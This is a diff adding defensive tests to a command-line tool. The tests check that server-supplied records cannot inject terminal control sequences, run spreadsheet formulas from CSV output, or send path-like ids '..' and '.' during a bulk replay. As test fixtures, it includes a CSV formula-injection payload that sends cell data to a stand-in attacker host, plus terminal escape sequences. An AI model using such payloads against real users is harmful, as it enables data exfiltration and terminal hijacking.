@@ -284,3 +284,61 @@ describe("bad inputs: exit 2 before any request", () => {
     expect(sim.stats().requests).toBe(0)
   })
 })
+
+describe("what a server sends cannot drive the terminal or a spreadsheet", () => {
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: raw control characters
+  const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/
+
+  it("table output escapes control characters, piped or not; json and ndjson stay exact", async () => {
+    const sim = await simulator("hostile-records", 30)
+    const table = await run(["executions", "list", "--sort", "asc"], envOf(sim))
+    expect(table.code).toBe(0)
+    expect(table.stdout).not.toMatch(CONTROL)
+    expect(table.stdout).toContain("user\\x1b]0;pwned title\\x07\\x1b[2J\\x9b31m-0")
+    const ndjson = await run(["executions", "list", "--sort", "asc", "--format", "ndjson"], envOf(sim))
+    const served = sim.dataset()
+    const first = JSON.parse(ndjson.stdout.split("\n")[0] ?? "{}") as Record<string, unknown>
+    expect(String(first.userId)).toContain("\u001b]0;pwned")
+    expect(first.id).toBe(served[0]?.id)
+    const usage = await run(["usage", "--by", "user"], envOf(sim))
+    expect(usage.code).toBe(0)
+    expect(usage.stdout).not.toMatch(CONTROL)
+  })
+
+  it("csv cells that a spreadsheet would run get a ' in front; --raw-csv keeps them", async () => {
+    const sim = await simulator("hostile-records", 30)
+    const csv = await run(["executions", "list", "--sort", "asc", "--format", "csv"], envOf(sim))
+    expect(csv.code).toBe(0)
+    const rows = csv.stdout
+      .split("\n")
+      .slice(1)
+      .filter((l) => l !== "")
+    for (const row of rows) expect(row).not.toMatch(/,[=+\-@]|,"[=+\-@]/)
+    expect(csv.stdout).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")"`)
+    expect(csv.stdout).toContain(`,"'@SUM(1,2)"`)
+    const raw = await run(["executions", "list", "--sort", "asc", "--format", "csv", "--raw-csv"], envOf(sim))
+    expect(raw.stdout).toContain(`"=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")"`)
+    const usage = await run(["usage", "--by", "workflow", "--format", "csv"], envOf(sim))
+    expect(usage.stdout).toContain("'=HYPERLINK")
+    expect(usage.stdout).not.toMatch(/^[=+\-@]/m)
+  })
+
+  it("a bulk replay reports and skips ids '..' and '.' from the list: never sent, exit 6", async () => {
+    const sim = await simulator("dot-ids", 30)
+    const dry = await run(["executions", "replay", "--dry-run"], envOf(sim))
+    expect(dry.code).toBe(6)
+    expect(dry.stderr).toContain('skipped execution id ".." from the server')
+    expect(dry.stderr).toContain('skipped execution id "." from the server')
+    expect(dry.stdout.split("\n")).not.toContain("..")
+    const real = await run(["executions", "replay", "--yes"], envOf(sim))
+    expect(real.code).toBe(6)
+    expect(errorLine(real)).toContain("2 execution id(s) that cannot be sent")
+    const replays = sim.stats().replays
+    expect(Object.keys(replays)).not.toContain("..")
+    expect(Object.keys(replays)).not.toContain(".")
+    expect(Object.keys(replays).length).toBe(28)
+    // nothing went to .../task-history/replay or .../workflow-executions/replay
+    expect(sim.stats().byRoute.other).toBe(0)
+    expectClean(real)
+  })
+})
